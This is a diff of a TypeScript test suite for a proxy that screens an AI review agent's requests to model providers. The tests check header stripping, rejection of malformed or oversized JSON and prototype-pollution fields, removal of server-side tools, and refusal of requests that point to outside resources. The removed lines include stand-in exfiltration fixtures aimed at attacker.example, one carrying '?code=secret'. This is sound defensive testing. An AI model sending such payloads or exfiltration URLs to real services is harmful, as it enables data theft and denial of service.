@@ -8,6 +8,7 @@ import type { FakeModel } from "../../harness/FakeModel.ts"
 import { waitUntil } from "../../harness/Wait.ts"
 import { documentFor, protocols } from "../../llm/Protocols.ts"
 import { overSocket } from "../mcp/ToolFixture.ts"
+import { requestCorpus } from "../../llm/wire/RequestCorpus.ts"
 import { withProxy } from "./ProxyFixture.ts"
 import type { ProxyFixture } from "./ProxyFixture.ts"
 
@@ -88,7 +89,8 @@ describe("the provider", () => {
   it("gets no header, query or credential of the agent, and its own key", async () => {
     const requests = await attack("anthropic-messages", async ({ post }) => {
       const headers = {
-        "anthropic-beta": "context-management-2025-06-27, bad\tbeta, x:y",
+        "anthropic-beta":
+          "context-management-2025-06-27, context-1m-2025-08-07, mcp-client-2025-11-20, files-api-2025-04-14, bad\tbeta, x:y",
         "anthropic-version": "1999-01-01",
         "x-forwarded-for": "1.2.3.4",
         cookie: "a=b",
@@ -153,12 +155,13 @@ describe("a request", () => {
     ["null", "null", 400],
     ["deep nesting", `${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}`, 400],
     ["millions of values", `[${"0,".repeat(1_000_000)}0]`, 400],
-    ["fields of prototypes", '{"__proto__":{"x":1},"constructor":{"prototype":{}},"messages":{"length":-1}}', 200],
+    ["fields of prototypes", '{"messages":[],"__proto__":{"x":1},"constructor":{"prototype":{}}}', 400],
     [
       "wrong types everywhere",
       '{"messages":[null,1,{"role":3,"content":{"a":[]},"tool_calls":7}],"tools":{"x":1},"stream":"yes"}',
-      200
-    ]
+      400
+    ],
+    ["a field twice, of which the last is checked and sent", '{"messages":[{"role":"file"}],"messages":[]}', 200]
   ])("of %s ends with a response", async (_, body, status) => {
     await attack("openai-chat", async ({ proxy, token }) => {
       const headers = { authorization: `Bearer ${token}` }
@@ -240,13 +243,13 @@ describe("tools of the provider's servers", () => {
         { type: "code_execution_20250825", name: "code_execution" },
         { type: "mcp_toolset", mcp_server_name: "x" }
       ]
-      const mcp_servers = [{ type: "url", url: "https://attacker.example", name: "x" }]
-      expect((await post("/v1/messages", { ...chat, tools, mcp_servers })).status).toBe(200)
-      expect((await report()).notices[0]).toMatch(/^removed .*web_search_20250305, tool web_fetch/)
+      for (let call = 0; call < 2; call++) expect((await post("/v1/messages", { ...chat, tools })).status).toBe(200)
+      expect((await report()).notices).toEqual([
+        "removed from the agent's requests, because a review may not use it: web_search_20250305, web_fetch_20250910, code_execution_20250825, mcp_toolset"
+      ])
     })
     const sent = JSON.parse(fake.requests.at(-1)?.text ?? "{}")
     expect(sent.tools).toEqual([{ name: "read", input_schema: { type: "object" } }])
-    expect(sent).not.toHaveProperty("mcp_servers")
   })
 
   it("may search where the configuration permits it", async () => {
@@ -264,73 +267,27 @@ describe("tools of the provider's servers", () => {
   })
 })
 
-const image = { type: "image_url", image_url: { url: "https://attacker.example/?code=secret" } }
-const source = (value: object) => ({ messages: [{ role: "user", content: [{ type: "image", source: value }] }] })
+const paths: Record<WireFormat, string> = {
+  "openai-chat": "/v1/chat/completions",
+  "openai-responses": "/v1/responses",
+  "anthropic-messages": "/v1/messages",
+  gemini: "/v1beta/models/m:generateContent"
+}
 
-it.each([
-  ["openai-chat", "/v1/chat/completions", { messages: [{ role: "user", content: [image] }] }],
-  [
-    "openai-chat",
-    "/v1/chat/completions",
-    { messages: [{ role: "tool", content: [{ type: "file", file: { file_id: "f" } }] }] }
-  ],
-  ["openai-chat", "/v1/chat/completions", { ...chat, n: 100 }],
-  ["openai-responses", "/v1/responses", { input: "x", previous_response_id: "resp_1" }],
-  ["openai-responses", "/v1/responses", { input: "x", background: true }],
-  ["openai-responses", "/v1/responses", { input: "x", prompt: { id: "p" } }],
-  ["openai-responses", "/v1/responses", { input: [{ type: "item_reference", id: "i" }] }],
-  [
-    "openai-responses",
-    "/v1/responses",
-    { input: [{ role: "user", content: [{ type: "input_file", file_url: "https://a.example" }] }] }
-  ],
-  [
-    "openai-responses",
-    "/v1/responses",
-    { input: [{ type: "function_call_output", output: [{ type: "input_image", image_url: "http://a" }] }] }
-  ],
-  ["anthropic-messages", "/v1/messages", source({ type: "url", url: "https://a.example" })],
-  ["anthropic-messages", "/v1/messages", source({ type: "file", file_id: "f" })],
-  [
-    "anthropic-messages",
-    "/v1/messages",
-    {
-      messages: [
-        { role: "user", content: [{ type: "tool_result", content: source({ type: "url" }).messages[0]?.content }] }
-      ]
+it.each(Object.entries(paths))("%s: no request that the corpus refuses reaches the provider", async (name, path) => {
+  const format = name as WireFormat
+  const { place, rows } = requestCorpus[format]
+  const refused = Object.entries(rows).flatMap(([group, list]) =>
+    list.flatMap(([verdict, value]) => (verdict === "refuse" ? [place[group]?.(value)] : []))
+  )
+  const requests = await attack(format, async ({ post, report }) => {
+    for (const body of refused) {
+      const { status, text } = await post(path, body)
+      expect({ body, status, text }).toEqual({ body, status: 400, text: expect.stringContaining(`(${format})`) })
     }
-  ],
-  [
-    "gemini",
-    "/v1beta/models/m:generateContent",
-    { contents: [{ parts: [{ fileData: { fileUri: "https://a.example" } }] }] }
-  ],
-  [
-    "gemini",
-    "/v1beta/models/m:generateContent",
-    { contents: [{ parts: [{ text: "x" }] }], cachedContent: "cachedContents/1" }
-  ],
-  [
-    "gemini",
-    "/v1beta/models/m:generateContent",
-    { contents: [{ parts: [{ file_data: { file_uri: "https://a.example" } }] }] }
-  ],
-  [
-    "gemini",
-    "/v1beta/models/m:generateContent",
-    { contents: [{ parts: [{ function_response: { parts: [{ file_data: {} }] } }] }] }
-  ],
-  [
-    "gemini",
-    "/v1beta/models/m:generateContent",
-    { contents: [{ parts: [{ text: "x" }] }], cached_content: "cachedContents/1" }
-  ]
-] as const)("%s: a request that refers to something outside of it is refused: %s %j", async (format, path, body) => {
-  const requests = await attack(format, async ({ post }) => {
-    const refused = await post(path, body)
-    expect(refused.status).toBe(400)
-    expect(refused.text).toContain("which a review may not use")
+    expect((await report()).failure).toMatchObject({ message: expect.stringContaining(`(${format})`) })
   })
+  expect(refused.length).toBeGreaterThan(30)
   expect(requests).toBe(0)
 })
 
